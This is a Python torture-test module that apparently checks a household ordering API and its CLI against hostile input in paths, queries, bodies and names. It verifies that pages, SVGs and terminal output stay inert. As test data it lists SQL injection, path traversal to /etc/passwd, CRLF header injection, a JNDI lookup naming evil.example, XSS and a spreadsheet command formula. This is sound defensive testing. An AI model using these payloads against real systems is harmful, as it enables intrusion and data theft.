"""A-07: what people and programs write where they may: ids in paths and queries, words, and names.

A point is a place and a text. Nothing is a 5xx, and no problem repeats what was sent. Words are kept as they were said, letter for letter; on a card
as text, as a page, as a picture and on the terminal they are nothing but words: no markup, no control character, and nothing that nobody sees.
"""

from __future__ import annotations

import unicodedata
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager
from html.parser import HTMLParser
from itertools import product
from pathlib import Path
from random import Random
from types import MappingProxyType
from typing import Any
from unittest.mock import patch
from urllib.parse import quote
from xml.etree import ElementTree

from jinja2 import Environment

from cards import templating
from halo_cli.main import run
from tests.installation import Installation
from tests.torture import hostile
from tests.torture.api import Answer, Endpoint, Served, bearing, endpoints, lived_in_copy, problem_faults, served
from tests.torture.api_cases import body_for
from tests.torture.api_families import rows_of
from tests.torture.api_phones import encoded, get, post
from tests.torture.harness import Bug, Kind, Problem, Row, sample
from tests.torture.vendor_texts import _harmful, _printed

_NAMED = (
    *("html", "ansi_colour", "ansi_clear", "ansi_c1", "osc_8", "carriage_return", "line_breaks", "null", "bidi", "zero_width", "tags"),
    *("private", "combining", "wide", "injection", "markup", "template", "sql", "json"),
)
TEXTS: Mapping[str, str] = MappingProxyType(
    {name: hostile.TEXTS[name] for name in _NAMED}
    | {
        "sql_true": "x' OR '1'='1' UNION SELECT token_sha256 FROM device --",
        "traversal": "../../../../etc/passwd",
        "traversal_encoded": "..%2f..%2f%2e%2e/%252e%252e/etc/passwd",
        "windows": "..\\..\\boot.ini::$DATA",
        "crlf": "milk\r\nX-Evil: 1\r\nSet-Cookie: a=b\r\n\r\n<h1>hello",
        "format": "%s%s%n%x%p {0.__class__} {title!r} ${jndi:ldap://evil.example} {{7*7}} {% include 'x' %}",
        "rtl": "\u202ekcab\u202c \u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627",
        "emoji": "🔋" * 10_000,
        "family": "👨‍👩‍👧‍👦" * 500,
        "css": "</style></svg>]]><script>alert(1)</script><svg onload=alert(1)>",
        "spreadsheet": "=cmd|' /C calc'!A0",
        "surrogate_in_words": "\\ud800 \\u0000 \\x1b[31m",
        "long": "a" * 100_000,
    }
)
#: What no page and no picture of a card has.
_LIVE = frozenset(
    {"script", "iframe", "object", "embed", "form", "input", "button", "base", "link", "foreignobject", "animate", "set", "video"}
)
#: So much of what was said stands in a list.
_LISTED_CHARS = 2_000
#: What uvicorn reads of a request line at the most.
_LONGEST_TARGET = 60_000
_UNSEEN = frozenset({"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"})
_QUERIES = ("limit", "cursor", "format", "household_id", "since", "until", "status", "kind", "of", "sig", "e", "r")


# Ids.


def _in_the_path(there: Served, ids: Mapping[str, str], text: str) -> Iterator[Problem]:
    """As an id of every kind, at every route, percent-encoded and as it is."""
    written = {quote(text, safe=""), quote(text, safe="/.%'\"<>{}$;=")}
    for endpoint in (each for each in endpoints(there.app) if each.names):
        for value in sorted(written):
            if len(value) < _LONGEST_TARGET:
                path = endpoint.filled(lambda _, value=value: value)  # type: ignore[misc]
                yield from _refused(there, ids, endpoint, path, b"", text)


def _in_the_query(there: Served, ids: Mapping[str, str], text: str) -> Iterator[Problem]:
    for endpoint in (each for each in endpoints(there.app) if each.method == "GET" and "stream" not in each.path):
        path = endpoint.filled(lambda name: ids.get(name, ids["draft_id"]))
        # What is longer than a server reads is another row's.
        query = "&".join(f"{name}={quote(text[:300], safe='')}" for name in _QUERIES)
        yield from _refused(there, ids, endpoint, path, query.encode(), text)


def _in_the_body(there: Served, ids: Mapping[str, str], text: str) -> Iterator[Problem]:
    """As the id of what an act is about."""
    known = {f"{each.method} {each.path}": each for each in endpoints(there.app)}
    for act, name in _ACTS_ABOUT:
        answer = there.call(
            "POST", act, _headers(ids, act), body_for(known[f"POST {act}"], {**ids, name: text, name.replace("about", "of"): text})
        )
        yield from _faults(f"{act} about it", answer, act, text)


_ACTS_ABOUT = (
    ("/v1/draft/confirm", "draft_id"),
    ("/v1/draft/cancel", "draft_id"),
    ("/v1/draft/modify", "draft_id"),
    ("/v1/command/hear", "of"),
    ("/v1/draft/create", "request_id"),
)


def _refused(there: Served, ids: Mapping[str, str], endpoint: Endpoint, path: str, query: bytes, text: str) -> Iterator[Problem]:
    answer = there.call(endpoint.method, path, _headers(ids, endpoint.path), body_for(endpoint, ids), query=query)
    yield from _faults(f"{endpoint.method} {endpoint.path}", answer, path, text, head=endpoint.method == "HEAD")


def _headers(ids: Mapping[str, str], about: str) -> list[tuple[bytes, bytes]]:
    return bearing(ids["token"], idempotency_key=f"words-{abs(hash(about))}")


def _faults(where: str, answer: Answer, path: str, text: str, *, head: bool = False) -> Iterator[Problem]:
    for fault in problem_faults(answer, path=path, head=head):
        yield Problem(Kind.WRONG, f"{where}: {fault}")
    if answer.status >= 400 and len(text) > 8 and text.encode() in answer.body:
        yield Problem(Kind.WRONG, f"{where}: the problem repeats what was sent")
    if "x-evil" in answer.headers or "set-cookie" in answer.headers:
        yield Problem(Kind.WRONG, f"{where}: what was sent became a header")


# Words.


def _said(there: Served, ids: Mapping[str, str], text: str) -> Iterator[Problem]:
    """By themselves, and behind words that come to a draft."""
    for number, words in enumerate((text, f"order 2 packs of AA batteries {text}", f"{text} order 2 packs of AA batteries")):
        answer = post(there, ids["token"], "/v1/draft/create", {"text": words}, key=f"said-now-{number}")
        yield from _faults("createDraft", answer, "/v1/draft/create", text)
        if answer.status == 200 and (told := answer.json()).get("request_id"):
            yield from _kept(there, ids, told["request_id"], words)
            of = told.get("draft_id") or told["request_id"]
            # Words that nothing came of have no card to be looked at again.
            if get(there, ids["token"], f"/v1/cards/{of}").status == 200:
                yield from _harmless(there, ids, of)
        elif answer.status != 200 and answer.json()["code"] != "invalid_input":
            yield Problem(Kind.WRONG, f"words were answered with {answer.status} {answer.json()['code']}")


def _kept(there: Served, ids: Mapping[str, str], request_id: str, words: str) -> Iterator[Problem]:
    """As they were said, but for a null, which no database takes: in the books, and over the API as much of it as a list tells."""
    words = words.replace("\0", "\N{REPLACEMENT CHARACTER}")
    listed = get(there, ids["token"], "/v1/requests").json()["requests"]
    told = next((each["text"] for each in listed if each["request_id"] == request_id), None)
    with there.home.engine._store.reading() as books:
        written = books.connection.exec_driver_sql("SELECT raw_command_text FROM execution_request WHERE id = ?", (request_id,)).scalar()
    for where, found, expected in (("the API tells", told, words[:_LISTED_CHARS]), ("the books have", written, words)):
        if found != expected:
            yield Problem(Kind.WRONG, f"{where} {found!r:.80} of {words!r:.80}")


def _changed(there: Served, ids: Mapping[str, str], text: str) -> Iterator[Problem]:
    for number, words in enumerate((text, f"make it 3 {text}")):
        answer = post(there, ids["token"], "/v1/draft/modify", {"draft_id": ids["draft_id"], "text": words}, key=f"changed-{number}")
        yield from _faults("modifyDraft", answer, "/v1/draft/modify", text)
        yield from _harmless(there, ids, ids["draft_id"])
    values = {"quantity": text, text[:80]: text, "when": text}
    answer = post(there, ids["token"], "/v1/draft/modify", {"draft_id": ids["draft_id"], "values": values}, key="changed-by-form")
    yield from _faults("modifyDraft", answer, "/v1/draft/modify", text)


def _heard(there: Served, ids: Mapping[str, str], text: str) -> Iterator[Problem]:
    for path, body in (
        ("/v1/command/hear", {"text": f"yes {text}", "about": ids["of"]}),
        ("/v1/command/parse", {"text": f"order {text} batteries", "tz": "America/New_York"}),
        ("/v1/command/parse", {"text": "order milk", "tz": text}),
        ("/v1/draft/create", {"text": "order 2 packs of AA batteries", "channel": text}),
    ):
        yield from _faults(path, post(there, ids["token"], path, body, key="heard-now"), path, text)


# Names.


def _named_member(there: Served, ids: Mapping[str, str], text: str) -> Iterator[Problem]:
    yield from _named(there, ids, "/v1/members", {"role": "adult"}, text, "display_name", ["members", "list"])
    # Who may confirm stands on every draft.
    yield from _harmless(there, ids, ids["draft_id"])


def _named_usual(there: Served, ids: Mapping[str, str], text: str) -> Iterator[Problem]:
    yield from _named(there, ids, "/v1/usuals", {"text": "2 packs of AA batteries"}, text, "name", ["usuals", "list"])
    yield from _said(there, ids, f"order {text[:80]}")


def _named(
    there: Served, ids: Mapping[str, str], path: str, more: Mapping[str, str], text: str, name: str, command: list[str]
) -> Iterator[Problem]:
    for number, given in enumerate((text, text[:100].strip(), f"Jo {text[:40]}".strip())):
        answer = post(there, ids["token"], path, {"name": given, **more}, key=f"named-now-{number}")
        yield from _faults(path, answer, path, given)
        if answer.status == 200 and answer.json()[name] != given:
            yield Problem(Kind.WRONG, f"{path} calls {given!r:.80} {answer.json()[name]!r:.80}")
    yield from _printed_harmless(there.home, command)


def _named_device(there: Served, ids: Mapping[str, str], text: str) -> Iterator[Problem]:
    new = there.home.engine.devices.open_enrolment("Phone", by="Alex")
    body = {"code": new.code.get_secret_value(), "name": text}
    yield from _faults("enrolDevice", there.call("POST", "/v1/devices/enrol", (), encoded(body)), "/v1/devices/enrol", text)
    yield from _printed_harmless(there.home, ["devices", "list"])


# On every face.


def _harmless(there: Served, ids: Mapping[str, str], of: str) -> Iterator[Problem]:
    for form, check in (("txt", _as_text), ("html", _as_page), ("svg", _as_picture)):
        answer = there.call("GET", f"/v1/cards/{of}", bearing(ids["token"]), query=f"format={form}".encode())
        if answer.status != 200 or answer.raised:
            yield Problem(Kind.WRONG, f"the card as {form} was answered with {answer.status} {answer.raised!r}")
            continue
        yield from (Problem(Kind.WRONG, f"the card as {form}: {fault}") for fault in check(answer.body.decode()))
    yield from _printed_harmless(there.home, ["show", of], ["activity"])


def _as_text(text: str) -> Iterator[str]:
    if bad := {hex(ord(each)) for each in set(text) - {"\n"} if unicodedata.category(each) in _UNSEEN}:
        yield f"there is {sorted(bad)}"


class _Page(HTMLParser):
    """What is alive in a page, and all that is only text."""

    def __init__(self) -> None:
        super().__init__()
        self.live: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.live += [tag] if tag in _LIVE else []
        self.live += [f"{tag} {name}={value}" for name, value in attrs if name.startswith("on") or _leads_away(name, value or "")]

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def _leads_away(name: str, value: str) -> bool:
    return name.rpartition("}")[2] in ("href", "src", "action") and not value.startswith(("data:", "#", "https://halo.example"))


def _as_page(text: str) -> Iterator[str]:
    page = _Page()
    page.feed(text)
    if page.live:
        yield f"there is {page.live}"
    yield from _as_text("".join(page.text).replace("\r", ""))


def _as_picture(text: str) -> Iterator[str]:
    try:
        root = ElementTree.fromstring(text)
    except ElementTree.ParseError as error:
        yield f"it is no XML: {error}"
        return
    for element in root.iter():
        tag = element.tag.rpartition("}")[2].lower()
        if tag in _LIVE:
            yield f"there is {tag}"
        for name, value in element.attrib.items():
            if name.startswith("on") or _leads_away(name, value):
                yield f"there is {tag} {name}={value}"
    yield from _as_text("".join(root.itertext()))


def _printed_harmless(home: Installation, *commands: list[str]) -> Iterator[Problem]:
    """By the command line: on a terminal, in a pipe, and as JSON."""
    for command in commands:
        words = [*command, "--home", str(home.settings.home), "--no-input"]
        for face in ("terminal", "pipe", "json"):

            def show(as_json: bool, words: list[str] = words) -> object:
                return run([*words, "--json"] if as_json else words)

            printed = _printed(face, show)
            if not printed:
                yield Problem(Kind.WRONG, f"halo {' '.join(command)} said nothing")
            yield from _harmful(face, printed, bracketed=False)


PLACES: Mapping[str, Callable[[Served, Mapping[str, str], str], Iterator[Problem]]] = MappingProxyType(
    {
        "path": _in_the_path,
        "query": _in_the_query,
        "body": _in_the_body,
        "words": _said,
        "change": _changed,
        "heard": _heard,
        "member": _named_member,
        "usual": _named_usual,
        "device": _named_device,
    }
)
#: Nothing is written where an id is none.
_WRITES_NOTHING = ("path", "query", "body")


def _points(random: Random) -> list[str]:
    return sample(random, [f"{place}.{name}" for place, name in product(PLACES, TEXTS)])


def _attempt(point: str, place: Path) -> Iterator[Problem]:
    where, name = point.split(".")
    home, ids = lived_in_copy(place)
    with served(home) as there:
        before = _matter(home)
        yield from PLACES[where](there, ids, TEXTS[name])
        if where in _WRITES_NOTHING and _matter(home) != before:
            yield Problem(Kind.DOUBLE, "an id that is none has changed something")
        if get(there, ids["token"], "/v1/household").status != 200:
            yield Problem(Kind.WRONG, "nothing is answered any more")
        yield from (Problem(Kind.UNPROVED, problem) for problem in home.verify().problems)


def _matter(home: Installation) -> dict[str, Any]:
    """What an act changes: not that it was asked for, and refused."""
    rows = rows_of(home.engine, str(home.engine.household_id))
    return {
        name: each for name, each in rows.items() if name in ("draft", "execution", "execution_request", "device", "user", "usual_bundle")
    }


# The bugs that this has to catch.


@contextmanager
def _nothing_is_escaped() -> Iterator[None]:
    """Templates put texts into pages as they are."""

    def wrong(*args: Any, **how: Any) -> Environment:
        return Environment(*args, **{**how, "autoescape": False})

    templating.template.cache_clear()
    templating._environment.cache_clear()
    with patch.object(templating, "Environment", wrong):
        yield
    templating.template.cache_clear()
    templating._environment.cache_clear()


@contextmanager
def _any_id_is_looked_at() -> Iterator[None]:
    """What kind of a thing an id names is told by its first letters, and no other ids are thought of."""
    from halo_engine.model.ids import Prefix

    with patch("server.routes.drafts.prefix_of", lambda identifier: Prefix(identifier[:3])):
        yield


@contextmanager
def _words_are_kept_tidy() -> Iterator[None]:
    """Words are kept as they are shown, not as they were said."""
    from halo_engine.engine import Engine
    from halo_engine.model.text import inert

    drafting = Engine.draft

    def wrong(engine: Engine, text: str, **how: Any) -> Any:
        return drafting(engine, inert(text), **how)

    with patch.object(Engine, "draft", wrong):
        yield


BUGS = (
    Bug("texts-become-markup", _nothing_is_escaped.__doc__ or "", _nothing_is_escaped, "A-07", ("member.html", "member.css")),
    Bug("odd-ids-are-not-thought-of", _any_id_is_looked_at.__doc__ or "", _any_id_is_looked_at, "A-07", ("path.sql",)),
    Bug("words-are-kept-tidy", _words_are_kept_tidy.__doc__ or "", _words_are_kept_tidy, "A-07", ("words.rtl",)),
)

ROWS = (
    Row(
        id="A-07",
        title="ids, words and names that are SQL, paths, headers, markup, or nothing that is seen",
        ci=14,
        points=_points,
        attempt=_attempt,
    ),
)
